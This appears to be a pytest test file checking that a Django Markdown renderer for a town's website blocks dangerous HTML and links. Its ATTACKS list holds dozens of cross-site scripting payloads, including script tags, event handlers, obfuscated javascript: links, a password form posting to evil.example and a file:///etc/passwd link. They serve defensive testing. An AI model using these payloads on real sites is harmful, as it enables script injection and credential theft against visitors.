"""Markdown of the town's staff: what it shows, and what it must never let through."""

import re
from html.parser import HTMLParser

import pytest
from django.utils.safestring import SafeString
from hypothesis import given
from hypothesis import strategies as st

from allonnes.core.markdown import ALLOWED_TAGS, render_markdown

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=password></form>",
    "<!-- --><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>x</details>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](<javascript:alert('1')>)",
    "[x](\u0001javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](https://example.org "\\" onmouseover=\\"alert(1)")',
    '[x](https://example.org/"onmouseover="alert(1))',
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="alert(1)](https://evil.example/pixel.png)',
    "![<script>alert(1)</script>](x)",
    "`<script>alert(1)</script>`",
    '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "\x00<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
ATTRIBUTES = {("a", "href"), ("a", "title"), ("a", "rel"), ("ol", "start"), ("th", "scope")}
SCHEMES = {"http:", "https:", "mailto:", "tel:"}


class _Inventory(HTMLParser):
    """The tags and attributes a browser would see."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = set()
        self.attributes = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes.extend((tag, name, value) for name, value in attrs)

    def handle_comment(self, data):
        self.tags.add("!--")

    def handle_decl(self, decl):
        self.tags.add("!")


def _inventory(text):
    inventory = _Inventory()
    inventory.feed(render_markdown(text))
    inventory.close()
    return inventory


def _faults(text):
    """The tags, attributes and addresses that should not be there."""
    inventory = _inventory(text)
    faults = list(inventory.tags - ALLOWED_TAGS)
    for tag, name, value in inventory.attributes:
        # A browser drops these characters before it reads the scheme (WHATWG, URL standard).
        address = re.sub("[\t\r\n]|^[\x00-\x20]+", "", value) if name == "href" else ""
        scheme = re.match("[a-z][a-z0-9+.-]*:", address.lower())
        if (tag, name) not in ATTRIBUTES or (scheme and scheme[0] not in SCHEMES):
            faults.append((tag, name, value))
    return faults


@pytest.mark.parametrize("attack", ATTACKS)
def test_render_markdown_lets_no_attack_through(attack):
    assert _faults(attack) == []


@given(st.lists(st.sampled_from([*ATTACKS, "\n", "\n\n", "> ", "* ", "[", "](", ")", "`", "|", "<", ">", "&", "x"])))
def test_render_markdown_lets_no_mixture_of_attacks_through(pieces):
    assert _faults("".join(pieces)) == []


def test_render_markdown_shows_html_as_written():
    assert render_markdown("<b>gras</b>") == "<p>&lt;b&gt;gras&lt;/b&gt;</p>\n"


def test_render_markdown_gives_a_safe_string():
    assert isinstance(render_markdown("bonjour"), SafeString)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("# A", "<h2>A</h2>\n"),
        ("## A", "<h3>A</h3>\n"),
        ("##### A", "<h6>A</h6>\n"),
        ("###### A", "<h6>A</h6>\n"),
        ("A\n===", "<h2>A</h2>\n"),
        ("A\n---", "<h3>A</h3>\n"),
    ],
)
def test_render_markdown_lowers_headings(text, expected):
    assert render_markdown(text) == expected


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("[x](https://example.org/a?b=1&c=2)", "https://example.org/a?b=1&amp;c=2"),
        ("[x](/budgets/)", "/budgets/"),
        ("[x](#suite)", "#suite"),
        ("<mailto:mairie@example.org>", "mailto:mairie@example.org"),
        ("[x](tel:+33243000000)", "tel:+33243000000"),
    ],
)
def test_render_markdown_keeps_ordinary_links(text, address):
    assert f'<a href="{address}" rel="noopener">' in render_markdown(text)


@pytest.mark.parametrize("address", ["ftp://example.org/a", "magnet:?xt=1", "sms:0600000000", "matrix:u/x"])
def test_render_markdown_drops_addresses_of_other_kinds(address):
    assert render_markdown(f"[x]({address})") == '<p><a rel="noopener">x</a></p>\n'


def test_render_markdown_does_not_guess_links():
    assert "<a" not in render_markdown("Voir https://example.org et www.example.org")


def test_render_markdown_draws_tables_with_column_headings():
    table = render_markdown("| Lieu | Prix |\n|:--|--:|\n| Parc | 10 |")
    assert table.count('<th scope="col">') == 2
    assert "<td>Parc</td>" in table
    assert "style" not in table


def test_render_markdown_replaces_images_by_their_text():
    assert render_markdown('![Le parc "vu" du ciel](https://example.org/parc.png)') == ('<p>Le parc "vu" du ciel</p>\n')


def test_render_markdown_draws_lists_quotes_and_code():
    text = "3. un\n4. deux\n\n> cité\n\n---\n\n```python\nx < 1\n```"
    result = render_markdown(text)
    assert '<ol start="3">' in result
    assert "<blockquote>" in result
    assert "<hr>" in result
    assert "<pre><code>x &lt; 1\n</code></pre>" in result
